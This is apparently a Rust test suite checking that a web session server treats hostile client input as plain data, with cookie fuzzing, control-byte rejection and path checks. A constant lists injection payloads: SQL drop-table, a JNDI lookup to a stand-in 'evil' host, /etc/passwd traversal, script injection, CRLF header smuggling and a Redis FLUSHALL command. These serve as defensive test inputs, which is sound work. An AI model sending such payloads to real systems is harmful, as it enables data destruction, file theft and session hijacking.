//! Hostile input: nothing that a client sends is more than data.

use serde_json::json;
use testkit::raw::{Answer, bytes, flood};
use testkit::server::{program, refusal};
use testkit::{Raw, Server};

use crate::common::{event, fault, heal, made_up, records, resident, token, with_cookie};

/// Shows IN-01.
#[tokio::test]
async fn random_cookie_lines_are_harmless() {
    let server = Server::start(&[]).await;
    let client = server.member("alice").await;
    let see = |_, answer: Answer| assert_eq!(answer.status, 200, "{answer:?}");
    flood(&server.address, 10_000, random_request, see).await;
    let before = resident(&server);
    flood(&server.address, 90_000, |number| random_request(number + 10_000), see).await;
    assert!(resident(&server) < before + (8 << 20), "{before} grew to {}", resident(&server));
    assert_eq!(records(&server).await.len(), 1);
    assert_eq!(client.user().await.as_deref(), Some("alice"));
}

/// Shows IN-01.
#[tokio::test]
async fn invalid_header_bytes_are_refused() {
    let server = Server::start(&[]).await;
    for byte in (0..32).chain([127]).filter(|byte| *byte != b'\t') {
        let mut connection = Raw::connect(&server.address).await;
        let line = [&b"Cookie: __Host-id="[..], &[byte], b"x"].concat();
        let answer = connection.ask("GET", "/peek", &[&line]).await;
        let is_answered = answer.is_none_or(|answer| [200, 400].contains(&answer.status));
        assert!(is_answered, "{byte}");
    }
    server.client().get("/peek").await.ok();
}

/// Shows IN-02.
#[tokio::test]
async fn unsafe_route_labels_are_refused() {
    for odd in HOSTILE.iter().copied().chain(["", "x x", &"n".repeat(33), "\u{e9}", "a.b", "a\nb"])
    {
        let said = refusal(program(&["--listen", "127.0.0.1:0", "--node", odd])).await;
        assert_eq!(said.lines().count(), 1, "{odd:?}: {said}");
    }
}

/// Shows IN-03.
#[tokio::test]
async fn keys_values_and_users_are_opaque() {
    let server = Server::start(&[]).await;
    let client = server.client();
    for odd in HOSTILE.iter().copied().chain(["\u{202e}\u{1f4a9}", "~", "__proto__", "constructor"])
    {
        let (key, value) = (percent(odd), json!({ odd: [odd] }).to_string());
        client.send("POST", &format!("/put?k={key}"), &[], &value).await.ok();
        let got = client.get(&format!("/get?k={key}")).await.ok();
        assert_eq!(got.body, format!(r#"{{"value":{value}}}"#), "{odd}");
        let user = client.post(&format!("/login?u={key}")).await.ok();
        assert_eq!(user.json()["user"], odd);
        assert_eq!(client.user().await.as_deref(), Some(odd));
    }
    for control in ["%00", "a%0Ab", "%7F", "%1B%5B31m"] {
        let put = client.send("POST", &format!("/put?k={control}"), &[], "1").await;
        let login = client.post(&format!("/login?u={control}")).await;
        assert_eq!((put.status.as_u16(), login.status.as_u16()), (413, 400), "{control}");
    }
}

/// Shows IN-06.
#[tokio::test]
async fn a_corrupt_record_is_counted_and_kept() {
    let server = Server::start(&[]).await;
    let client = server.member("alice").await;
    fault(&server, "op=load&mode=corrupt").await;
    let peek = client.get("/peek").await.ok();
    assert_eq!((&peek.json()["user"], peek.set_cookies().len()), (&json!(null), 0));
    assert_eq!(event(&server, "corrupt_record").await, 1);
    heal(&server).await;
    assert_eq!(client.user().await.as_deref(), Some("alice"));
    assert_eq!(records(&server).await.len(), 1);
}

/// Shows IN-03.
#[tokio::test]
async fn no_request_line_causes_a_server_error() {
    let server = Server::start(&[]).await;
    let cookie = format!("__Host-id={}", token(&server.member("alice").await));
    for path in [
        "//peek",
        "/../peek",
        "/%2e%2e/peek",
        "/peek?%",
        "/peek?k=%ff%fe",
        "/get?k=%ff",
        "/put?k=a&k=b",
        "/login?u=a&u=b",
        "/sessions/%ff/end",
        "/status/%ff",
        "/b//peek",
        "/gate?g=%00&mode=none&load=2000",
    ] {
        for method in ["GET", "POST", "DELETE", "PATCH", "TRACE", "QUERY"] {
            let answer = with_cookie(&server, method, path, cookie.as_bytes()).await;
            assert!((200..500).contains(&answer.status), "{method} {path}: {answer:?}");
        }
    }
    assert_eq!(event(&server, "store_error").await, 0);
}

/// Random bytes that a header may hold, often with something of ours among them.
fn random_request(number: usize) -> Vec<u8> {
    let mut random = Random(number as u64 + 1);
    let mut line = b"Cookie: ".to_vec();
    for _ in 0..random.below(40) {
        match random.below(8) {
            0 => line.extend_from_slice(b"__Host-id="),
            1 => line.extend_from_slice(b"; "),
            2 => line.extend_from_slice(made_up(number).as_bytes()),
            _ => line.push(random.header_byte()),
        }
    }
    bytes("GET", "/peek", &[&line])
}

/// SplitMix64: the same requests in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }

    fn header_byte(&mut self) -> u8 {
        match self.below(256) as u8 {
            byte @ (b' '..=b'~' | 0x80..) => byte,
            _ => b'\t',
        }
    }
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

const HOSTILE: [&str; 9] = [
    "a\"; drop table sessions;--",
    "' OR '1'='1",
    "a*",
    "{}",
    "${jndi:ldap://evil}",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "%00%0d%0aSet-Cookie: a=b",
    "*1\\r\\n$8\\r\\nFLUSHALL",
];
